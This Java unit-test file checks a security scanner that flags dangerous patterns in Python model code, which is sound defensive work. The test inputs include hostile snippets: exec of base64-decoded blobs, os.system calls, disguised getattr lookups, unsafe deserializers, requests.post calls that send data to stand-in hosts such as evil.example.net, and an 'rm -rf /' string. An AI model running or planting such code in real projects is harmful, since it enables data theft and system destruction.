package io.sentrascan.scanner.format.python;

import static org.assertj.core.api.Assertions.assertThat;

import io.sentrascan.scanner.FileResult;
import io.sentrascan.scanner.Finding;
import io.sentrascan.scanner.Policy;
import io.sentrascan.scanner.Probe;
import io.sentrascan.scanner.ScanEngine;
import io.sentrascan.scanner.Severity;
import io.sentrascan.scanner.Sources;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;

class PythonScannerTest {
  static final Path FIXTURES = Path.of("src/test/resources/fixtures/python");

  private static FileResult scan(String name, String code) {
    return ScanEngine.defaults()
        .scanSource(Sources.bytes(code.getBytes(StandardCharsets.UTF_8), name))
        .get(0);
  }

  private static List<String> rules(String code) {
    FileResult file = scan("modeling_x.py", code);
    assertThat(file.scanner()).isEqualTo("python");
    return file.findings().stream().map(f -> f.ruleId() + " " + f.severity()).toList();
  }

  private static boolean supports(String name, String content) throws IOException {
    return new PythonScanner()
        .supports(Probe.of(Sources.bytes(content.getBytes(StandardCharsets.UTF_8), name)));
  }

  @Test
  void commentsDocstringsAndMethodsNamedLikeBuiltinsAreNotCalls() {
    assertThat(
            rules(
                "\"\"\"Never eval(x) or os.system(y).\"\"\"\n"
                    + "import re\n"
                    + "# eval(user_input) would be bad\n"
                    + "def f(model):\n"
                    + "    \"\"\"exec(code) is mentioned here only.\"\"\"\n"
                    + "    model.eval()\n"
                    + "    return re.compile('x')\n"))
        .isEmpty();
  }

  @Test
  void dynamicCodeAndDecodedPayloads() {
    assertThat(rules("eval(expr)\n")).containsExactly("PY-001 HIGH");
    assertThat(rules("compile(src, 'f', 'exec')\n")).containsExactly("PY-001 MEDIUM");
    assertThat(rules("import base64\nexec(base64.b64decode(blob))\n"))
        .containsExactly("PY-007 CRITICAL");
  }

  @Test
  void commandExecutionThroughImportAliases() {
    assertThat(rules("from os import system as s\ns('id')\n")).containsExactly("PY-002 HIGH");
    assertThat(rules("import subprocess as sp\nsp.Popen(['ls'])\n")).containsExactly("PY-002 HIGH");
    assertThat(rules("import os\nos.execvp('sh', ['sh'])\n")).containsExactly("PY-002 HIGH");
    assertThat(rules("m = __import__(name)\n")).containsExactly("PY-003 MEDIUM");
    assertThat(rules("__import__('subprocess')\n")).containsExactly("PY-003 HIGH");
    assertThat(rules("import os as o\ngetattr(o, 'sys' + 'tem')('id')\n"))
        .containsExactly("PY-003 HIGH");
    assertThat(rules("getattr(__builtins__, 'ev' + 'al')\n")).containsExactly("PY-003 HIGH");
    assertThat(rules("getattr(config, 'hidden_size', 64)\n")).isEmpty();
  }

  @Test
  void deserializersAreReportedOnlyWhenUnsafe() {
    assertThat(rules("import torch\ntorch.load(p)\n")).containsExactly("PY-004 MEDIUM");
    assertThat(rules("import torch\ntorch.load(p, weights_only=True)\n")).isEmpty();
    assertThat(rules("import yaml\nyaml.load(f)\n")).containsExactly("PY-004 MEDIUM");
    assertThat(rules("import yaml\nyaml.load(f, Loader=yaml.SafeLoader)\n")).isEmpty();
    assertThat(rules("import numpy as np\nnp.load(p)\n")).isEmpty();
    assertThat(rules("import numpy as np\nnp.load(p, allow_pickle=True)\n"))
        .containsExactly("PY-004 MEDIUM");
    assertThat(rules("import joblib\njoblib.load(p)\n")).containsExactly("PY-004 MEDIUM");
  }

  @Test
  void networkToHostsOutsideTheAllowList() {
    assertThat(rules("import requests\nrequests.get('https://huggingface.co/x/resolve/main/a')\n"))
        .isEmpty();
    assertThat(rules("import requests\nrequests.post('https://collector.example.net/u', data=d)\n"))
        .containsExactly("PY-005 MEDIUM");
    assertThat(rules("import requests\nrequests.get('http://203.0.113.5:8000/x')\n"))
        .containsExactly("PY-005 HIGH");
    assertThat(rules("import requests\nrequests.get(url)\n")).containsExactly("PY-005 LOW");
    FileResult file =
        scan("m.py", "import requests\nrequests.post('https://evil.example.net/u')\n");
    assertThat(file.findings().get(0).description()).contains("evil.example.net");
  }

  @Test
  void obfuscation() {
    assertThat(rules("import codecs\ncodecs.decode(s, 'rot13')\n")).containsExactly("PY-008 HIGH");
    assertThat(rules("import codecs\ncodecs.decode(s, 'utf-8')\n")).isEmpty();
    assertThat(rules("import zlib\nzlib.decompress(data)\n")).isEmpty();
    assertThat(rules("import marshal\nmarshal.loads(b)\n")).containsExactly("PY-008 HIGH");
    String hex = "ab12".repeat(60);
    assertThat(rules("BLOB = '" + hex + "'\n")).containsExactly("PY-006 MEDIUM");
    assertThat(rules("CMD = \"os.system('rm -rf /')\"\n")).containsExactly("PY-009 LOW");
  }

  @Test
  void windowsLineBreaksAndContinuationsKeepStatementsApart() {
    assertThat(rules("import os\r\nx = 1 + \\\r\n    2\r\nos.system(cmd)\r\n"))
        .containsExactly("PY-002 HIGH");
    assertThat(rules("\"\"\"Doc with eval(x).\"\"\"\r\nimport re\r\n")).isEmpty();
    assertThat(rules("\ufeffimport os as o\no.system(c)\n")).containsExactly("PY-002 HIGH");
  }

  @Test
  void expressionsInsideFStringsAreCode() {
    assertThat(rules("import os\nmsg = f\"user {os.system('id')} done\"\n"))
        .containsExactly("PY-002 HIGH");
    assertThat(rules("x = f'{{os.system(1)}} {name!r:>10}'\n")).isEmpty();
    assertThat(rules("x = f\"{f'{eval(s)}'}\"\n")).containsExactly("PY-001 HIGH");
    assertThat(rules("x = \"{os.system('id')}\"\n")).containsExactly("PY-009 LOW");
    FileResult file = scan("m.py", "import os\nv = f\"{os.popen('id').read()}\"\n");
    assertThat(file.findings().get(0).location().context()).isEqualTo("line 2, column 8");
  }

  @Test
  void findingsPointAtLineColumnAndByteOffset() {
    FileResult file = scan("m.py", "import os\n\ndef run():\n    os.system('id')\n");
    Finding f = file.findings().get(0);
    assertThat(f.ruleId()).isEqualTo("PY-002");
    assertThat(f.location().context()).isEqualTo("line 4, column 5");
    assertThat(f.location().offset()).isEqualTo("import os\n\ndef run():\n    ".length());
    assertThat(f.evidence()).isEqualTo("os.system('id')");
  }

  @Test
  void evidenceOfACallHidesSecretsOnTheSameLine() {
    String token = "hf_" + "Qw3rTy7uIoP9aSdF4gHjK2lZxC5vBnM8qW";
    FileResult file =
        scan("m.py", "import os\nos.system('curl -H \"Authorization: Bearer " + token + "\" x')\n");
    assertThat(file.findings()).extracting(Finding::ruleId).contains("PY-002", "SEC-007");
    assertThat(file.findings()).allSatisfy(f -> assertThat(f.toString()).doesNotContain(token));
  }

  @Test
  void detectedByShebangExtensionOrPythonContentButNotProse() throws IOException {
    assertThat(supports("install", "#!/usr/bin/env python3\nprint(1)\n")).isTrue();
    assertThat(supports("run.sh", "#!/bin/sh\necho hi\n")).isFalse();
    assertThat(supports("x.py", "print('hello')\n")).isTrue();
    assertThat(
            supports(
                "module",
                "import os\nimport sys\n\ndef main():\n    pass\n\nif __name__ == '__main__':\n"))
        .isTrue();
    assertThat(supports("notes", "This is a note.\nimport things later\ndef not code\n")).isFalse();
    assertThat(supports("README.md", "# Title\n\nSome words.\n\nimport torch\n")).isFalse();
    assertThat(
            new PythonScanner()
                .supports(Probe.of(Sources.bytes(new byte[] {0x70, 0, 1, 2}, "x.py"))))
        .isFalse();
  }

  @Test
  void theMaliciousFixturesAreCaughtWithTheRightRule() throws IOException {
    FileResult backdoor =
        ScanEngine.defaults()
            .scan(
                List.of(FIXTURES.resolve("malicious-modeling_backdoor.py")),
                Policy.defaults(),
                p -> {})
            .files()
            .get(0);
    assertThat(backdoor.findings())
        .singleElement()
        .satisfies(
            f -> {
              assertThat(f.ruleId()).isEqualTo("PY-007");
              assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
              assertThat(f.location().context()).isEqualTo("line 11, column 9");
            });
    FileResult benign =
        ScanEngine.defaults()
            .scan(List.of(FIXTURES.resolve("benign-modeling_tiny.py")), Policy.defaults(), p -> {})
            .files()
            .get(0);
    assertThat(benign.findings()).isEmpty();
  }
}
